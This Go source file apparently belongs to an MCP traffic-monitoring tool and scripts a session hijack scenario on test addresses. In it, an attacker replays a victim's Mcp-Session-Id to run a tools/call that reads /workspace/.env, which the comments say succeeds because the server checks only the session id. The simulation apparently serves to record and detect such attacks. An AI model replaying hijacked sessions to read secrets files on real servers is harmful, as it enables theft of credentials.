package scenario

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"strings"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/mcpwatch/mcpwatch/internal/tcprec"
)

// The session hijack scenario's parties.
var (
	HijackServer = ServerSpec{Name: "notes", Version: "1.2.0", As: netip.MustParseAddrPort("10.0.0.45:8080"), Host: "notes.corp.example:8080"}
	HijackVictim = ClientSpec{Name: "claude-code", Version: "2.1.0", IP: netip.MustParseAddr("10.0.1.90"), ProtocolVersion: "2025-11-25", DisableStandaloneSSE: true}
	// HijackBystander has a session of its own with the same server.
	HijackBystander = ClientSpec{Name: "cursor", Version: "1.7.2", IP: netip.MustParseAddr("10.0.1.91"), ProtocolVersion: "2025-11-25", DisableStandaloneSSE: true}
	HijackAttacker  = netip.MustParseAddr("10.0.1.99")
)

// RunSessionHijack records HijackVictim and HijackBystander each in a
// session of their own with HijackServer, and in between HijackAttacker
// replaying the victim's Mcp-Session-Id from its own address: a raw
// tools/call that the go-sdk server runs inside the victim's session,
// since a session id is all it checks. The victim then goes on with its
// session. It returns the victim's session id.
func RunSessionHijack(ctx context.Context, rec *tcprec.Recorder) (victimSession string, err error) {
	srv, err := StartServer(HijackServer)
	if err != nil {
		return "", err
	}
	defer srv.Close()
	victim, err := srv.Connect(ctx, rec, HijackVictim, &Log{})
	if err != nil {
		return "", err
	}
	defer victim.Close()
	bystander, err := srv.Connect(ctx, rec, HijackBystander, &Log{})
	if err != nil {
		return "", err
	}
	defer bystander.Close()
	for _, cs := range []*mcp.ClientSession{victim, bystander} {
		if err := DemoConversation(ctx, cs); err != nil {
			return "", err
		}
	}
	if err := srv.postInSession(ctx, rec, HijackAttacker, victim.ID(), HijackVictim.ProtocolVersion,
		`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"/workspace/.env"}}}`); err != nil {
		return "", fmt.Errorf("hijacked call: %w", err)
	}
	if _, err := victim.ListTools(ctx, nil); err != nil {
		return "", fmt.Errorf("victim after the hijack: %w", err)
	}
	if err := bystander.Close(); err != nil {
		return "", err
	}
	return victim.ID(), victim.Close()
}

// postInSession POSTs a JSON-RPC request from clientIP with the given
// session's headers, on a connection of its own, and checks that the
// server answered it.
func (s *Server) postInSession(ctx context.Context, rec *tcprec.Recorder, clientIP netip.Addr, session, protocolVersion, body string) error {
	tr := &http.Transport{DialContext: rec.DialContext(s.realAddr, clientIP, s.Spec.As)}
	defer tr.CloseIdleConnections()
	req, err := http.NewRequestWithContext(ctx, "POST", s.URL(), strings.NewReader(body))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Accept", "application/json, text/event-stream")
	req.Header.Set("Mcp-Session-Id", session)
	req.Header.Set("Mcp-Protocol-Version", protocolVersion)
	resp, err := (&http.Client{Transport: tr}).Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	answer, err := io.ReadAll(resp.Body)
	if err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK || !strings.Contains(string(answer), `"result"`) {
		return fmt.Errorf("%s: %s", resp.Status, answer)
	}
	return nil
}
